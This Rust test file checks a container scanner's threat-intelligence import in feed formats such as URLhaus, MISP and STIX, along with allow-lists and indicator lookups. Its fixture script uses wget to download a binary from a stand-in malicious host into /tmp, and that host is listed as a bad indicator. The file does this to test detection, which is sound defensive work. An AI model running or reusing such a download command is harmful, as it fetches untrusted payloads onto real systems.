//! Intelligence is imported in every format, judges images without their being pulled again, and is gone when removed.

use std::fs;

use harbour::{Harbour, Script};
use model::Digest;

use crate::support::{Home, Layer, blobs_asked, file, finding, image, image_of};

const SCRIPT: &[u8] = b"#!/bin/sh\nwget http://dl.files-4711.com/x.bin -O /tmp/x\n";

/// One listed value in every format, each of which makes the image that contacts it malicious.
#[test]
fn every_format_judges_an_image_that_was_known_before() {
    let home = Home::new();
    let harbour = Harbour::start(Script::default());
    harbour.push_parts("runs", "v1", &image_of("opt/start", SCRIPT));
    let present = [file("opt/start", b"#!/bin/sh\n:\n"), file("opt/other", SCRIPT)];
    harbour.push_parts("has", "v1", &image(&[&Layer::gzip(&present)]));
    let (runs, has) = (format!("{}/runs:v1", harbour.host()), format!("{}/has:v1", harbour.host()));
    let disposition = |reference: &str| home.scan(&[reference]).result()["verdict"]["disposition"].clone();
    assert_eq!((disposition(&runs), disposition(&has)), ("clean".into(), "clean".into()));

    let sha256 = Digest::of(SCRIPT).hex();
    let formats = [
        (
            "urlhaus",
            "# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter\n\
             \"1\",\"2026-01-01 00:00:00\",\"http://dl.files-4711.com/x.bin\",\"online\",\"\",\"malware_download\",\"elf\",\"\",\"x\"\n"
                .to_owned(),
        ),
        (
            "threatfox",
            "# \"first_seen_utc\",\"ioc_id\",\"ioc_value\",\"ioc_type\",\"threat_type\"\n\
             \"2026-01-01 00:00:00\", \"1\", \"files-4711.com\", \"domain\", \"payload_delivery\"\n"
                .to_owned(),
        ),
        (
            "misp",
            r#"{"Event": {"info": "x", "Attribute": [{"type": "domain", "value": "files-4711.com", "to_ids": true}]}}"#
                .to_owned(),
        ),
        (
            "stix",
            format!(
                r#"{{"type": "bundle", "objects": [{{"type": "indicator", "name": "x",
                    "pattern": "[file:hashes.'SHA-256' = '{sha256}']"}}]}}"#
            ),
        ),
        ("hosts", "0.0.0.0 dl.files-4711.com\n".to_owned()),
        ("plain", "hxxp://dl.files-4711[.]com/*\n".to_owned()),
    ];
    for (format, text) in formats {
        fs::write(home.join("list"), text).expect("writes");
        let imported = home.run(&["intel", "import", "--quiet", "--name", "mine", "list"]);
        assert_eq!((imported.code, imported.stdout.as_str()), (0, format!("mine  {format}  1 entry\n").as_str()));
        let asked = harbour.requests().len();
        let report = home.scan(&[&runs]).result();
        assert_eq!(report["verdict"]["disposition"], "malicious", "{format}: {report}");
        let detector = if format == "stix" { "known-bad-file" } else { "known-bad-host" };
        assert!(finding(&report, detector, "opt/start").is_some_and(|found| found["runs"] == true), "{format}");
        assert_eq!(disposition(&has), "suspicious", "{format}");
        assert!(blobs_asked(&harbour, asked).len() <= 2, "{format}: only configs are read, no layer");
    }

    assert_eq!(home.run(&["intel", "remove", "mine"]).code, 0);
    assert_eq!((disposition(&runs), disposition(&has)), ("clean".into(), "clean".into()));
    home.run(&["intel", "remove", "--quiet", "mine"]).refused(2, &["nothing was imported as \"mine\""]);
}

#[test]
fn an_allow_list_takes_back_what_another_list_says() {
    let home = Home::new();
    let harbour = Harbour::start(Script::default());
    harbour.push_parts("runs", "v1", &image_of("opt/start", SCRIPT));
    let runs = format!("{}/runs:v1", harbour.host());
    fs::write(home.join("bad.txt"), "files-4711.com\n").expect("writes");
    let allowed =
        r#"{"name": "ours", "type": "hostname", "list": ["files-4711.com"], "matching_attributes": ["domain"]}"#;
    fs::write(home.join("good.json"), allowed).expect("writes");

    assert_eq!(home.run(&["intel", "import", "bad.txt"]).code, 0);
    assert_eq!(home.scan(&[&runs]).code, 1);
    assert_eq!(home.run(&["intel", "import", "good.json"]).stdout, "good.json  misp-warning-list  1 entry\n");
    assert_eq!(home.scan(&[&runs]).code, 0);
    assert_eq!(home.run(&["intel", "check", "files-4711.com"]).code, 0);
}

#[test]
fn what_is_known_of_a_value_is_told_and_wrong_lines_are_named() {
    let home = Home::new();
    let list = "# ours\nfiles-4711.com\nno host\n198.51.100.0/24\n";
    fs::write(home.join("list.txt"), list).expect("writes");
    fs::write(home.join("ages.csv"), "young-4711.com,2026-01-31\nx-4711.com,2026-01-31\n").expect("writes");
    let imported = home.run(&["intel", "import", "list.txt"]);
    assert_eq!(imported.stdout, "list.txt  plain  2 entries, 1 refused\n");
    let told = "list.txt: line 3: \"no host\": it is neither domain, URL, address nor SHA-256";
    assert!(imported.stderr.contains(told), "{}", imported.stderr);
    assert_eq!(home.run(&["intel", "import", "ages.csv"]).stdout, "ages.csv  domain-age  2 entries\n");

    let check = |values: &[&str]| home.run(&[&["intel", "check"], values].concat());
    let known = check(&["hxxps://www.files-4711[.]com/a", "198.51.100.77:80", "sub.young-4711.com"]);
    assert_eq!(known.code, 1);
    assert_eq!(
        known.stdout,
        "hxxps://www.files-4711[.]com/a\n  \
           ! malicious-website: files-4711.com listed by list.txt, confidence medium\n\
         198.51.100.77:80\n  ! malicious-website: 198.51.100.0/24 listed by list.txt, confidence medium\n\
         sub.young-4711.com\n  registered 2026-01-31 (ages.csv)\n"
    );
    let unknown = check(&["another-4711.com"]);
    assert_eq!((unknown.code, unknown.stdout.as_str()), (0, "another-4711.com\n  nothing is known\n"));
    check(&["github.io"]).refused(2, &["it is a public suffix"]);

    let json = check(&["--json", "files-4711.com"]).json();
    assert_eq!(json["values"][0]["listings"][0]["source"], "list.txt");
    let listed = home.run(&["intel", "list", "--json"]).json();
    assert_eq!(listed["sources"][1]["refused"], 1);
    assert_eq!(listed["sources"][1]["notes"][0], told);
}

#[test]
fn an_import_without_anything_usable_changes_nothing() {
    let home = Home::new();
    fs::write(home.join("list.txt"), "files-4711.com\n").expect("writes");
    assert_eq!(home.run(&["intel", "import", "list.txt"]).code, 0);
    fs::write(home.join("list.txt"), "<html>not found</html>\n").expect("writes");
    home.run(&["intel", "import", "--quiet", "list.txt"]).refused(2, &["nothing was changed", "line 1"]);
    assert_eq!(home.run(&["intel", "check", "files-4711.com"]).code, 1);
}

/// What abuse.ch gives away comes zipped, and a MISP feed as a folder.
#[test]
fn archives_and_folders_are_opened() {
    let home = Home::new();
    let plain = crate::support::gzip(b"files-4711.com\n");
    fs::write(home.join("list.gz"), plain).expect("writes");
    assert_eq!(home.run(&["intel", "import", "list.gz"]).stdout, "list.gz  plain  1 entry\n");
    fs::create_dir(home.join("feed")).expect("makes");
    for name in ["one", "two"] {
        let event = format!(
            r#"{{"Event": {{"info": "x", "Attribute": [
            {{"type": "domain", "value": "{name}-4711.com", "to_ids": true}}]}}}}"#
        );
        fs::write(home.join(&format!("feed/{name}.json")), event).expect("writes");
    }
    fs::write(home.join("feed/manifest.json"), "{}").expect("writes");
    assert_eq!(home.run(&["intel", "import", "feed"]).stdout, "feed  misp  2 entries\n");
    assert_eq!(home.run(&["intel", "check", "two-4711.com"]).code, 1);
}
